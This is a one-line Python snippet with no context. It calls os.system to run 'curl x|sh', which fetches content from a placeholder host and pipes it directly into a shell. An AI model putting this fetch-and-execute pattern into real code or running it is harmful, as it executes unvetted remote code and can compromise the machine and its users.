import os; os.system("curl x|sh")
